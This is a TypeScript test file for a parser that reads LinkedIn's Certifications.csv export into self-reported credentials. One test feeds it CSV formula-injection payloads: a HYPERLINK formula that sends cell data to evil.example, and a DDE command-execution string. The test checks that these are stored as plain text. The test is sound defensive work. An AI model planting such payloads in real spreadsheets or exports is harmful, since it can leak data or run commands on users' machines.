// LinkedIn's Certifications.csv becomes self-reported entries; everything odd in a row is said, never silently guessed.
import { describe, expect, it } from 'vitest';
import { caught } from '../../test/helpers/errors';
import { certificationsCsv, SAMPLE_LINKEDIN_CERTS } from '../../test/helpers/platform-fixtures';
import { parseCredential } from './detect';
import {
  isCertificationsEntry,
  isLinkedInCertificationsCsv,
  isLinkedInExport,
  readLinkedInCertifications,
  type CertificationItem,
} from './linkedin-export';

const enc = (s: string) => new TextEncoder().encode(s);

async function parsed(item: CertificationItem | undefined) {
  if (!item || 'error' in item) throw new Error(`expected a row, got ${JSON.stringify(item)}`);
  return parseCredential(item.bytes, { name: item.name });
}

describe('recognising the export', () => {
  it('knows the archive by its files and the certifications by their header', () => {
    expect(isLinkedInExport(['Profile.csv', 'Connections.csv', 'Certifications.csv'])).toBe(true);
    expect(
      isLinkedInExport([
        'Basic_LinkedInDataExport_06-01-2024/Profile.csv',
        'Basic_LinkedInDataExport_06-01-2024/Positions.csv',
      ]),
    ).toBe(true);
    expect(isLinkedInExport(['badges/a.png', 'Certifications.csv'])).toBe(false);
    expect(isCertificationsEntry('export/CERTIFICATIONS.CSV')).toBe(true);
    expect(
      isLinkedInCertificationsCsv(
        enc('\uFEFFName,Url,Authority,Started On,Finished On,License Number\n'),
      ),
    ).toBe(true);
    expect(isLinkedInCertificationsCsv(enc('"Name","Url","Authority"\n'))).toBe(true);
    expect(isLinkedInCertificationsCsv(enc('First Name,Last Name,URL\n'))).toBe(false);
    expect(isLinkedInCertificationsCsv(enc('{"Name": 1, "Url": 2, "Authority": 3}'))).toBe(false);
  });
});

describe('readLinkedInCertifications', () => {
  it('turns each row into a self-reported credential with its issuer, dates, link and number', async () => {
    const items = readLinkedInCertifications(
      enc(certificationsCsv(SAMPLE_LINKEDIN_CERTS)),
      'Certifications.csv',
    );
    expect(items.map((i) => i.name)).toEqual([
      'Certifications.csv#row-1',
      'Certifications.csv#row-2',
    ]);
    const google = await parsed(items[0]);
    expect(google.format).toBe('self-reported');
    expect(google.credential).toMatchObject({
      title: 'Google Data Analytics Professional Certificate',
      issuerName: 'Google',
      issuedOn: '2023-03-01',
      validUntil: null,
      credentialId: 'https://www.coursera.org/account/accomplishments/professional-cert/ABCD1234',
    });
    expect(google.credential.description).toBe('License or credential number: ABCD1234');
    const aws = await parsed(items[1]);
    expect(aws.credential).toMatchObject({ issuedOn: '2024-01-01', validUntil: '2099-01-31' });
    expect(aws.notes.join(' ')).toMatch(/From your LinkedIn data export/);
  });

  it('keeps formula-looking cells as text and leaves out links and dates it cannot read, saying so', async () => {
    const csv = certificationsCsv([
      {
        name: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
        url: "=cmd|' /C calc'!A0",
        authority: '@SUM(1+1)',
        startedOn: 'sometime',
        finishedOn: '2024-02-30',
        licenseNumber: '+1-555-0100',
      },
    ]);
    const [item] = readLinkedInCertifications(enc(csv), 'Certifications.csv');
    const p = await parsed(item);
    expect(p.credential.title).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click me")');
    expect(p.credential.issuerName).toBe('@SUM(1+1)');
    expect(p.credential.credentialId).toBe('+1-555-0100');
    expect(p.credential.evidence).toEqual([]);
    expect([p.credential.issuedOn, p.credential.validUntil]).toEqual([null, null]);
    const notes = item && 'notes' in item ? item.notes.join(' ') : '';
    expect(notes).toMatch(/link in the export .* is not an http\(s\) web address/);
    expect(notes).toMatch(/"sometime" \(Started On\) could not be read/);
    expect(notes).toMatch(/"2024-02-30" \(Finished On\) could not be read/);
  });

  it('reports a row without a name on its own and keeps the others', () => {
    const items = readLinkedInCertifications(
      enc('Name,Url,Authority\n,https://x.example,X\nReal one,,Y\n'),
      'c.csv',
    );
    expect(items[0]).toMatchObject({ name: 'c.csv#row-1', error: { code: 'malformed' } });
    expect('bytes' in items[1]!).toBe(true);
  });

  it('refuses a file that is empty, not LinkedIn’s, damaged, not UTF-8 or absurdly large', () => {
    expect(
      caught(() => readLinkedInCertifications(enc('Name,Url,Authority\n'), 'c.csv')).message,
    ).toMatch(/lists no certifications/);
    expect(
      caught(() => readLinkedInCertifications(enc('Title,Link\nx,y\n'), 'c.csv')).message,
    ).toMatch(/no "Name" column/);
    expect(
      caught(() => readLinkedInCertifications(enc('Name,Url,Authority\n"unclosed,x,y\n'), 'c.csv'))
        .code,
    ).toBe('malformed');
    expect(
      caught(() => readLinkedInCertifications(new Uint8Array([0x4e, 0x61, 0xff, 0xfe]), 'c.csv'))
        .code,
    ).toBe('encoding');
    const huge = `Name,Url,Authority\n${'"x",y,z\n'.repeat(100_001)}`;
    expect(caught(() => readLinkedInCertifications(enc(huge), 'c.csv')).code).toBe('too-large');
  });

  it('clips a 1 MB name instead of storing it whole', async () => {
    const [item] = readLinkedInCertifications(
      enc(`Name,Url,Authority\n${'N'.repeat(1_000_000)},,X\n`),
      'c.csv',
    );
    expect((await parsed(item)).credential.title.length).toBeLessThanOrEqual(1000);
  });
});
